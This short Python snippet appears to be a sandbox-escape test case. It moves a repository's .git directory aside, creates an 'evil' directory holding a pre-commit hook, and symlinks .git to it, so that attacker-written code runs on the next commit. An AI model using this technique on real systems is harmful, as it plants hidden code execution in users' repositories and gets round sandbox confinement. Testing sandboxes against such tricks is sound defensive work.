# plain: open
# process: undone
# namespace: held
from escape import *
def link():
    os.rename(".git", "moved")
    os.makedirs("evil/hooks")
    write("evil/hooks/pre-commit")
    os.symlink("evil", ".git")
attempt(link)
